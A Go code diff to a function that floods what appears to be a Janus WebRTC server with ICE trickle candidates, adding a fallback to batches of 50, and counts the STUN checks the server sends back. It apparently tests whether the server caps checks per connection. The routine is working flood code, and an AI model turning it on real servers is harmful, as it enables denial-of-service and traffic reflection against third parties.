@@ -195,13 +195,24 @@ func CandidateFlood(ctx context.Context, base, plugin, ip string, n int, window 
 		go countSTUN(c, &checks)
 	}
 	r.Sockets = len(conns)
-	_, m, err := httpPost(ctx, fmt.Sprintf("%s/%d/%d", base, sid, hid),
-		`{"janus":"trickle","transaction":"t","candidates":[`+strings.Join(cands, ",")+`]}`)
-	if err != nil {
-		return r, err
-	}
-	if m["janus"] == "ack" {
-		r.Trickled = len(cands)
+	// All in one trickle, as an attacker would; a server that refuses so many in one request gets
+	// them in trickles of floodBatch, so that what bounds the checks is its cap per PeerConnection.
+	batch := len(cands)
+	for len(cands) > 0 {
+		n := min(batch, len(cands))
+		_, m, err := httpPost(ctx, fmt.Sprintf("%s/%d/%d", base, sid, hid),
+			`{"janus":"trickle","transaction":"t","candidates":[`+strings.Join(cands[:n], ",")+`]}`)
+		if err != nil {
+			return r, err
+		}
+		switch {
+		case m["janus"] == "ack":
+			r.Trickled += n
+		case batch > floodBatch:
+			batch = floodBatch
+			continue
+		}
+		cands = cands[n:]
 	}
 	select {
 	case <-ctx.Done():
@@ -210,6 +221,9 @@ func CandidateFlood(ctx context.Context, base, plugin, ip string, n int, window 
 	r.Checks = int(checks.Load())
 	return r, nil
 }
+
+// floodBatch: candidates per trickle when a server refuses the flood in one.
+const floodBatch = 50
 
 // countSTUN counts STUN binding requests (type 0x0001, magic cookie) arriving on c.
 func countSTUN(c net.PacketConn, n *atomic.Int64) {
